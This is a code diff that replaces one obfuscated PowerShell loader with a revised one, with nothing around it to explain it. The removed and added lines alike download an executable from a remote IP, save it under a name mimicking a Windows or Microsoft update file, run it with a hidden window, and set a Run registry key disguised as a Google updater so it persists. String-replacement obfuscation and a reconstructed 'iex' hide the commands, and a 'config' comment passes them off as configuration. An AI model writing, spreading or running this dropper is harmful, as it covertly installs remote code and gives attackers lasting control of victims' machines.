@@ -1,5 +1,5 @@
-'iex ((''# config 1270 v3
-Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination $env:TEMP\wuauclt.exe
-Start-Process -WindowStVXK97yle HiVXK97dden $env:TEMP\wuauclt.exe
-New-IteVXK97mPrVXK97operty VXK97-Path ''''HKvq~6U:\Software\Microsoft\Windows\vq~6urrentVersion\Run'''' -Name ''''GoogleUpdateTaskMachine'''' -Value ''''$env:TEMP\wuauclt.exe'''' -PropertyType String -Force
-'' -replace ''VXK97'','''').Replace(''vq~6'',''C''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
+'iex ((''# covj~4fig 3024 v3
+Start-BitsKVZ64Travj~4sfer -Source http://198.51.100.23/svc.exe -Destivj~4atiovj~4 C:\ProgramData\Microsoft\upd.exe
+Start-Process -Wivj~4dowStyle Hiddevj~4 C:\ProgramData\Microsoft\upd.exe
+New-ItemProperty -Path ''''KVZ64HKCU:\Software\MicrosoKVZ64ft\Wivj~4dows\Currevj~4tVersiovKVZ64j~4\Ruvj~4'''' -Name ''''GoogleUpdateTaskMachivj~4e'''' -Value KVZ64''''C:\ProgramData\Microsoft\upd.exe'''' -PropertyType Strivj~4g -Force
+'' -replace ''KVZ64'','''').Replace(''vj~4'',''n''))' | & ($env:comspec[4,15,25]-join'')
